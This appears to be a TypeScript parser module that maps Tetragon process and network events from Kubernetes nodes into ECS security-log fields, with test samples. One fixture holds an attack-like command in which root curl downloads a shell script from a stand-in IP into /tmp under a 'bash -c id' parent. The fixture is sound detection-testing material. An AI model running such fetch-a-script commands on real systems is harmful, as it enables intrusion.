import { addressOf } from '../../addresses.ts'
import { type ParseObject, textOf } from '../../parsed.ts'
import { counted } from '../../scan/traffic.ts'
import { momentOf } from '../../timestamps.ts'
import { listOf, mapOf } from '../cloud/cloud-event.ts'
import type { ObjectFormat } from '../log-format.ts'
import { accountOf, programOf } from './unix-process.ts'

const KINDS = [
  'process_exec',
  'process_exit',
  'process_kprobe',
  'process_lsm',
  'process_tracepoint',
]
const CONNECTS = /^(?:tcp_connect|security_socket_connect|__x64_sys_connect)$/

/** What ECS calls it: rules for processes that start must not find what a process does later. */
function tellsOf(kind: string, call: string | undefined) {
  if (kind === 'process_exec') return { category: 'process', type: 'start' }
  if (kind === 'process_exit') return { category: 'process', type: 'end' }
  return CONNECTS.test(call ?? '')
    ? { category: 'network', type: 'connection' }
    : { category: 'host', type: 'info' }
}

const read: ParseObject = (fields, { object, receivedAt }) => {
  const kind = KINDS.find((name) => name in object)
  if (kind === undefined) return undefined
  const { process: said, parent: above, args, function_name } = mapOf(object[kind])
  const [process, parent, pod] = [mapOf(said), mapOf(above), mapOf(mapOf(said).pod)]
  const binary = textOf(process.binary)
  if (binary === undefined) return undefined
  const call = textOf(function_name)
  const { category, type } = tellsOf(kind, call)
  const socket = mapOf(
    listOf(args)
      .map((arg) => mapOf(arg).sock_arg)
      .find(Boolean),
  )
  const file = mapOf(
    listOf(args)
      .map((arg) => mapOf(arg).file_arg)
      .find(Boolean),
  )
  const commandLine = commandOf(binary, textOf(process.arguments))
  return {
    source: 'tetragon',
    at: momentOf(fields.time, receivedAt),
    machine: textOf(fields.node_name),
    message: [call ?? kind, commandLine].join(': '),
    user: accountOf(process.uid),
    process: programOf(binary),
    event_code: call ?? kind,
    src_ip: addressOf(socket.saddr),
    dst_ip: addressOf(socket.daddr),
    fields: counted({
      'host.os.type': 'linux',
      'event.category': category,
      'event.type': type,
      'process.executable': binary,
      'process.command_line': commandLine,
      'process.working_directory': textOf(process.cwd),
      'process.pid': textOf(process.pid),
      'process.parent.executable': textOf(parent.binary),
      'process.parent.command_line': commandOf(textOf(parent.binary), textOf(parent.arguments)),
      'process.parent.pid': textOf(parent.pid),
      'user.id': textOf(process.uid),
      'file.path': textOf(file.path),
      'source.port': textOf(socket.sport),
      'destination.ip': textOf(socket.daddr),
      'destination.port': textOf(socket.dport),
      'container.id': textOf(mapOf(pod.container).id) ?? textOf(process.docker),
      'container.name': textOf(mapOf(pod.container).name),
      'kubernetes.namespace': textOf(pod.namespace),
      'kubernetes.pod.name': textOf(pod.name),
    }),
  }
}

/** As it is typed: it says the program by its whole path, and the arguments without it. */
function commandOf(binary: string | undefined, said: string | undefined) {
  const program = programOf(binary)
  return program && said ? `${program} ${said}` : program
}

export const tetragon: ObjectFormat = {
  id: 'endpoint.tetragon',
  title: 'Tetragon: processes, and the calls that its policies watch',
  group: 'endpoint',
  kind: 'object',
  ecs: 'process',
  ocsf: { class: 'process_activity', activity: 'other' },
  when: { names: KINDS.map((kind) => [`${kind}.process.binary`]) },
  read,
  samples: [
    {
      event: {
        process_exec: {
          process: {
            exec_id: 'bWluaWt1YmU6MQ==',
            pid: 52_699,
            uid: 0,
            cwd: '/tmp',
            binary: '/usr/bin/curl',
            arguments: '-o /tmp/a.sh http://203.0.113.9/a.sh',
            pod: { namespace: 'shop', name: 'web-0', container: { id: 'c1', name: 'web' } },
          },
          parent: { pid: 52_690, uid: 0, binary: '/bin/bash', arguments: '-c id' },
        },
        node_name: 'node1',
        time: '2026-03-03T10:00:00.123456789Z',
      },
      expect: {
        at: '2026-03-03T10:00:00.123Z',
        source: 'tetragon',
        host: 'node1',
        user: 'root',
        process: 'curl',
        event_code: 'process_exec',
        fields: {
          'process.command_line': 'curl -o /tmp/a.sh http://203.0.113.9/a.sh',
          'process.parent.command_line': 'bash -c id',
          'kubernetes.pod.name': 'web-0',
        },
      },
    },
    {
      event: {
        process_kprobe: {
          process: { pid: 7, uid: 1000, binary: '/usr/bin/python3', arguments: 'a.py' },
          function_name: 'tcp_connect',
          args: [
            { sock_arg: { saddr: '192.0.2.5', sport: 4711, daddr: '203.0.113.9', dport: 443 } },
          ],
        },
        node_name: 'node1',
        time: '2026-03-03T10:00:00Z',
      },
      expect: {
        user: '1000',
        event_code: 'tcp_connect',
        src_ip: '192.0.2.5',
        dst_ip: '203.0.113.9',
        fields: { 'event.category': 'network', 'destination.port': 443 },
      },
    },
  ],
}
